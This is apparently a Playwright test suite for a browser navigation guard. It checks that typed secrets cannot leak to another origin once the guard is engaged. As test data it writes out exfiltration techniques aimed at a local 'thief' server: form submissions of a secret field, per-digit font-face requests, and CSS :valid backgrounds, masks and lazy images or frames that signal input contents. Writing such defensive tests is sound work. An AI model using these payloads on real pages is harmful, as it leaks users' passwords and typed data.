import { type Browser, chromium, type Page, type Request } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { chromiumLaunchOptions } from '../../../scripts/chromium';
import { NavigationGuard } from '../../../src/engine/browser/navigation-guard';
import { page as html, type Site, startSite } from '../site';

let browser: Browser;
beforeAll(async () => {
  browser = await chromium.launch(chromiumLaunchOptions());
});
afterAll(() => browser?.close());

const open: { close(): unknown }[] = [];
afterEach(async () => {
  for (const each of open.splice(0)) await each.close();
});

/** Without the proxy behind it: what the guard lets through arrives. */
async function guarded(body: string, more = '<h1>Inside</h1>') {
  const site = await startSite(({ path }) => html(path === '/inside' ? more : body));
  open.push(site);
  const page = await browser.newPage();
  open.push({ close: () => page.close() });
  // Another site to the browser, which puts its frames into a process of their own.
  const inside = `http://localhost:${site.port}`;
  const guard = await NavigationGuard.attach({
    page,
    allowsPage: (url) => url.startsWith(site.url) || url.startsWith(inside) || url === 'about:blank',
  });
  const go = async () => {
    guard.begin();
    await page.goto(site.url, { waitUntil: 'load' });
  };
  return { page, guard, go, inside: `${inside}/inside` };
}

/** Nobody is there: what the guard lets through fails for that reason. */
const ELSEWHERE = 'https://127.0.0.1:1/';
const STOPPED = 'net::ERR_BLOCKED_BY_CLIENT';

const reasonOf = async (page: Page) => (await page.waitForEvent('requestfailed')).failure()?.errorText;

describe.each([
  ['an empty frame', false],
  ['a frame of another site', true],
])('while what was typed is in the page, nothing goes elsewhere through %s', (_, isOther) => {
  it.each(['get', 'post'])('by %s', async (method) => {
    const { page, guard, go, inside } = await guarded('<div id="x"></div>');
    await go();
    const form = `<form id="f" method="${method}" action="${ELSEWHERE}" target="fr"><input name="p" value="secret"></form>`;
    await page.evaluate(
      (html) => {
        document.body.innerHTML = html;
      },
      `${form}<iframe name="fr" ${isOther ? `src="${inside}"` : ''}></iframe>`,
    );
    if (isOther) await expect.poll(() => page.frames().some((each) => each.url() === inside)).toBe(true);
    await guard.hold();
    const reason = reasonOf(page);
    await page.evaluate(() => (document.getElementById('f') as HTMLFormElement).submit());
    expect(await reason).toBe(STOPPED);
  });
});

it('a frame of another site is shown before that, and after', async () => {
  const { page, guard, go } = await guarded('<p>x</p>');
  await go();
  const isShown = async () => {
    const reason = reasonOf(page);
    await page.evaluate((url) => {
      const frame = document.createElement('iframe');
      frame.src = url;
      document.body.append(frame);
    }, ELSEWHERE);
    return (await reason) !== STOPPED;
  };
  expect(await isShown()).toBe(true);
  await guard.hold();
  expect(await isShown()).toBe(false);
  guard.release();
  expect(await isShown()).toBe(true);
  await guard.hold();
  // What was typed is gone with its document.
  await go();
  expect(await isShown()).toBe(true);
});

describe('while what was typed is in the page, markup asks for nothing elsewhere because of it', () => {
  /** One font file for each digit. */
  const fonts = (url: string) =>
    [...'0123456789'].map(
      (digit) =>
        `@font-face { font-family: x; src: url("${url}/font/${digit}"); unicode-range: U+3${digit} } #p { font-family: x }`,
    );
  const CASES: readonly (readonly [string, (url: string) => string])[] = [
    ['a font for each character', (url) => `<style>${fonts(url).join('')}</style><input id="p">`],
    [
      'a background of what is valid',
      (url) =>
        `<style>#p:valid { background: url("${url}/yes") }</style><input id="p" type="password" required pattern="1.*">`,
    ],
    [
      'a picture that comes into view',
      (url) =>
        `<style>#p:invalid ~ img { display: none }</style><input id="p" required><img loading="lazy" src="${url}/yes">`,
    ],
    [
      'a mask of another document',
      (url) => `<style>#p:valid ~ p { mask: url("${url}/yes.svg#m") }</style><input id="p" required><p>x</p>`,
    ],
    [
      'a style sheet of a frame that comes into view',
      () =>
        '<style>#p:invalid ~ iframe { display: none }</style><input id="p" required><iframe loading="lazy" src="/inside"></iframe>',
    ],
  ];

  async function thief(): Promise<Site> {
    const other = await startSite(() => ({ headers: { 'access-control-allow-origin': '*' } }));
    open.push(other);
    return other;
  }

  it.each(CASES)('%s', async (_, body) => {
    const other = await thief();
    const { page, guard, go } = await guarded(body(other.url), `<link rel="stylesheet" href="${other.url}/yes.css">`);
    await go();
    const asked = () => other.requests.map(({ path }) => path);
    const before = asked();
    await guard.hold();
    const isTelling = (request: Request) => request.url().startsWith(other.url);
    const answered = Promise.race([
      page.waitForEvent('requestfailed', isTelling),
      page.waitForEvent('requestfinished', isTelling),
    ]);
    await page.fill('#p', '1');
    await answered;
    expect(asked()).toEqual(before);
    // What a script asks for comes after what was asked for before.
    await page.evaluate((url) => fetch(url), `${other.url}/api`);
    expect(asked()).toEqual([...before, '/api']);
  });

  it('until the document is gone, whatever else has come to rest; and of its own site it loads all', async () => {
    const other = await thief();
    const { page, guard, go } = await guarded('<p>x</p>');
    const load = (url: string) =>
      page.evaluate(
        (src) =>
          new Promise((resolve) => {
            const image = new Image();
            image.onload = image.onerror = resolve;
            image.src = src;
          }),
        url,
      );
    await go();
    await load(`${other.url}/before`);
    await guard.hold();
    await load(`${other.url}/held`);
    guard.release();
    await load(`${other.url}/released`);
    const own = page.waitForResponse(/own/);
    await load('/own');
    expect((await own).status()).toBe(200);
    await go();
    await load(`${other.url}/after`);
    expect(other.requests.map(({ path }) => path)).toEqual(['/before', '/after']);
  });
});
